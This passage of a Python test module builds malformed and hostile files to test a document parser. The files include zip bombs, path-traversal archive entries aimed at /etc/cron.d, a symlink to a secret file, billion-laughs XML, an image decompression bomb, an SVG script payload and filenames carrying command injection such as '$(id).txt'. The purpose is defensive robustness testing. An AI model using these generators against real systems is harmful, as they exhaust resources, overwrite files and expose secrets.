    yield paper("一千页.pdf", lambda: _pages_of(1000, said), "subsidy")
    yield paper("五千页.pdf", lambda: _pages_of(5000, said))
    yield paper(
        "批注十万条.pdf",
        lambda: _paper(
            said, page=b"/Annots[" + b"<</Type/Annot/Subtype/Text/Rect[1 1 2 2]/Contents(x)>>" * 20_000 + b"]"
        ),
    )
    yield paper(
        "附件.pdf",
        lambda: _paper(
            said,
            _stream(b"MZ" * 1000),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 6 0 R>>>>]>>>>",
        ),
        "subsidy",
    )
    yield paper(
        "加密的.pdf",
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            b"<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (b"41" * 32, b"42" * 32),
            trailer=b"<</Root 1 0 R/Encrypt 3 0 R/ID[<00><00>]/Size 4>>",
        ),
    )
    yield paper("头上有垃圾.pdf", lambda: b"\n" * 900 + _paper(said), "subsidy")
    yield paper("只有头.pdf", lambda: b"%PDF-1.7")
    yield paper("垃圾.pdf", lambda: b"%PDF-1.7\n" + random.Random(2).randbytes(100_000))


def _pages_of(many: int, content: bytes) -> bytes:
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(many))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, many), _stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", *[page] * many,
    )  # fmt: skip


# —— 压缩包 ——


def _archives() -> Iterator[Broken]:
    def archive(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("压缩包", name, _holding(data), holds)

    inner = packed({"甲.txt": _RULE})
    yield archive("正常的.zip", lambda: inner, "每餐补贴3元")
    yield archive("空的.zip", lambda: packed({}))
    yield archive(
        "出界.zip",
        lambda: packed(
            {"../../../../../tmp/zhengwen-escaped.txt": _RULE, "/etc/cron.d/a.txt": _RULE, "C:\\a.txt": _RULE}
        ),
    )
    yield archive("符号链接.zip", lambda: _with_link(str(_secret())))
    yield archive("一层炸弹.zip", lambda: packed_large({"甲.txt": _RULE.encode()}, "乙.txt", 500))
    yield archive("层层炸弹.zip", lambda: _matryoshka(packed_large({}, "零.txt", 60), 3, 10))
    yield archive("套十层.zip", lambda: _matryoshka(inner, 10, 1))
    yield archive("重叠的炸弹.zip", lambda: _overlapping(250))
    yield archive("五万件.zip", lambda: packed({f"{n}.txt": "" for n in range(50_000)}))
    yield archive(
        "里面是炸弹.zip",
        lambda: packed({"弹.docx": packed_large({"word/document.xml": b"<a/>"}, "word/a", 200), "甲.txt": _RULE}),
        "每餐补贴3元",
    )
    yield archive(
        "里面全坏.zip",
        lambda: packed({"坏.docx": b"PK", "坏.pdf": b"%PDF-", "坏.xlsx": b"x", "甲.txt": _RULE}),
        "每餐补贴3元",
    )
    yield archive("加密的.zip", lambda: _locked(inner))
    yield archive("名字里有零.zip", lambda: inner.replace("甲.txt".encode(), b"a\0b.txt"))
    yield archive("名字六万字.zip", lambda: packed({"甲" * 20_000 + ".txt": _RULE}))
    yield archive("同名的两件.zip", lambda: _twice("甲.txt", _RULE))
    yield archive("前面有垃圾.zip", lambda: b"#!/bin/sh\nexit\n" + inner, "每餐补贴3元")
    yield archive(
        "没有的压法.zip",
        lambda: inner.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x08", b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x63"),
    )
    yield archive("校验错.zip", lambda: inner[:35] + b"\xff" + inner[36:])


# —— 图片 ——


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """一位灰度的 PNG；不给内容的全是零，压得很小。"""
    packer = zlib.compressobj(9)
    data = (
        packer.compress(rows)
        if rows
        else b"".join(packer.compress(b"\0" * (width // 8 + 1) * 500) for _ in range(height // 500))
    )
    data += packer.flush()

    def chunk(kind: bytes, inner: bytes) -> bytes:
        return struct.pack(">I", len(inner)) + kind + inner + struct.pack(">I", zlib.crc32(kind + inner))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _pictures() -> Iterator[Broken]:
    def picture(name: str, data: Data) -> Broken:
        return Broken("图片", name, _holding(data))

    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 100) + struct.pack("<I", 8)
    yield picture("炸弹.png", lambda: png(60_000, 60_000))
    yield picture("大.png", lambda: png(12_000, 12_000))
    yield picture("一点.png", lambda: png(8, 1, b"\0\0"))
    yield picture("谎报大小.png", lambda: png(2_000_000_000, 2, b"\0" * 100))
    yield picture("零乘零.png", lambda: png(0, 0, b"\0"))
    yield picture("坏的.jpg", lambda: b"\xff\xd8\xff\xe0" + random.Random(3).randbytes(5000))
    yield picture("目录绕圈.tif", lambda: loop)
    yield picture("坏的.webp", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\0" * 100)
    yield picture(
        "坏的.bmp",
        lambda: b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, -(1 << 31), 1 << 30, 1, 24, 0, 0, 0, 0, 0, 0),
    )
    yield picture("文字冒充.png", lambda: _RULE.encode())
    yield picture("脚本.webp", lambda: b"<svg onload=alert(1)>")


# —— 别的格式、错的扩展名 ——


def _others() -> Iterator[Broken]:
    def other(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("别的", name, _holding(data), holds)

    yield other("嵌套十万层.rtf", lambda: b"{\\rtf1" + b"{" * 100_000 + b"}" * 100_000 + b"}")
    yield other(
        "坏的.doc",
        lambda: (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + "WordDocument".encode("utf-16-le")
            + random.Random(4).randbytes(20_000)
        ),
    )
    yield other(
        "坏的.odt", lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a"})
    )
    yield other("坏的.wps", lambda: random.Random(5).randbytes(5000))
    yield other("表.csv", lambda: "项目,标准\n助餐,3元\n".encode())
    yield other("程序.exe", lambda: b"MZ" + b"\0" * 1000)
    yield other("没有扩展名", lambda: _RULE.encode())
    yield other("两个扩展名.pdf.txt", lambda: _RULE.encode() * 3, "每餐补贴3元")
    yield other("文字冒充.pdf", lambda: _RULE.encode())
    yield other("文字冒充.docx", lambda: _RULE.encode())
    yield other("网页冒充.doc", lambda: f"<html><body><p>{_RULE}</p></body></html>".encode(), "每餐补贴3元")
    yield other("DOCX冒充.txt", lambda: docx("".join(map(_p, _RULE.splitlines()))))
    yield other("PDF冒充.txt", lambda: _paper(b"BT /F1 12 Tf 50 700 Td (Article 1 subsidy) Tj ET"))
    yield other("程序冒充.docx", lambda: b"\x7fELF" + b"\0" * 2000)
    yield other("压缩包冒充.xlsx", lambda: packed({"甲.txt": _RULE}))
    yield other(
        "又是PDF又是ZIP.pdf",
        lambda: _paper(b"BT /F1 12 Tf 50 700 Td (Article 1 subsidy) Tj ET") + packed({"甲.txt": _RULE}),
    )


# —— 每一成处断开 ——


def _cut() -> Iterator[Broken]:
    for kind in (".docx", ".xlsx", ".ofd", ".pdf", ".html", ".txt"):
        whole = min(FORMATS.glob(f"*{kind}")).read_bytes()
        for tenth in range(1, 10):
            yield Broken("断开", f"断在{tenth}成{kind}", _holding(_head_of(whole, tenth)))
    archive = packed(
        {p.name: p.read_bytes() for p in sorted(FORMATS.glob("*.*")) if p.suffix in (".docx", ".html", ".txt")}
    )
    for tenth in range(1, 10):
        yield Broken("断开", f"断在{tenth}成.zip", _holding(_head_of(archive, tenth)))


def _head_of(data: bytes, tenths: int) -> Data:
    return lambda: data[: len(data) * tenths // 10]


# —— 名字、链接、设备 ——


def _places() -> Iterator[Broken]:
    def place(name: str, make: Make, holds: str = "") -> Broken:
        return Broken("位置", name, make, holds)

    def sparse(path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(500 * _MB)

    def bound(path: Path) -> None:
        with socket.socket(socket.AF_UNIX) as door:
            before = Path.cwd()
            os.chdir(path.parent)  # 路径太长，绑不上
            try:
                door.bind(path.name)
            finally:
                os.chdir(before)

    def looped(path: Path) -> None:
        path.mkdir()
        (path / "里").symlink_to(path)

    def locked(path: Path) -> None:
        path.write_text(_RULE, "utf-8")
        path.chmod(0)

    yield place("五百兆.txt", sparse)
    yield place("五百兆.pdf", sparse)
    yield place("指着自己.txt", lambda path: path.symlink_to(path.name))
    yield place("指着没有的.txt", lambda path: path.symlink_to("没有"))
    yield place("指着设备.txt", lambda path: path.symlink_to("/dev/zero"))
    yield place("指着终端.txt", lambda path: path.symlink_to("/dev/tty"))
    yield place("管道.txt", lambda path: os.mkfifo(path))
    yield place("套接字.txt", bound)
    yield place("其实是文件夹.txt", lambda path: path.mkdir())
    yield place("绕圈的文件夹", looped)
    yield place("读不得.txt", locked)
    for name in (
        "换\n行.txt",
        "反\u202e转.txt",
        "长" * 80 + ".txt",
        "-rf.txt",
        "$(id).txt",
        "\x1b[31m红.txt",
        "<b>粗.txt",
        "空 格 .txt",
        "坏\udcff\udcfe名.txt",
    ):
        yield place(name, _holding((_RULE * 3).encode), "每餐补贴3元")


# —— 造的办法 ——


def _encoded(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _holding(data: Data) -> Make:
    def make(path: Path) -> None:
        path.write_bytes(data())

    return make


def _secret() -> Path:
    """外部实体要读的文件；内容是 ``SECRET``。"""
    path = Path("/tmp") / f"zhengwen-secret-{os.getuid()}.txt"
    path.write_text(SECRET, "utf-8")
    return path


def packed(files: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def packed_large(files: Mapping[str, bytes], name: str, megabytes: int) -> bytes:
    """另有一件解开是这么多兆的空格。"""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, data in files.items():
            archive.writestr(other, data)
        with archive.open(name, "w") as member:
            for _ in range(megabytes):
                member.write(b" " * _MB)
    return buffer.getvalue()


def _nested(template: str, depth: int, inner: str) -> str:
    before, _, after = template.partition("{}")
    return before * depth + inner + after * depth


def _laughs() -> str:
    lines = ['<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))]
    return f"<!DOCTYPE d [{''.join(lines)}]>"


def _lying(data: bytes) -> bytes:
    """目录里把每一件解开后的大小都写成 1。"""
    changed = bytearray(data)
    at = -1
    while (at := changed.find(b"PK\x01\x02", at + 1)) >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(changed)


def _matryoshka(inner: bytes, depth: int, each: int) -> bytes:
    for level in range(depth):
        inner = packed({f"{level}-{n}.zip": inner for n in range(each)})
    return inner


def _locked(data: bytes) -> bytes:
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.index(mark) + offset
        changed[at] |= 1
    return bytes(changed)


def _with_link(target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("链接.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return buffer.getvalue()


def _twice(name: str, data: str) -> bytes:
    import warnings

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(name, data)
        archive.writestr(name, data + "第三条 又一份。")
    return buffer.getvalue()


def _overlapping(many: int) -> bytes:
    """许多项都指着同一段压缩的内容（Fifield 的炸弹的简化）。"""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = b" " * (10 * _MB)
    body = packer.compress(raw) + packer.flush()
    head = (zlib.crc32(raw), len(body), len(raw))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, *head, 5, 0) + b"a.txt"
    names = (f"{n:03}.t" for n in count())
    entries = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *head, 5, 0, 0, 0, 0, 0, 0)
        + next(names).encode()
        for _ in range(many)
    )
    start = len(local) + len(body)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, many, many, len(entries), start, 0)
    return local + body + entries + end
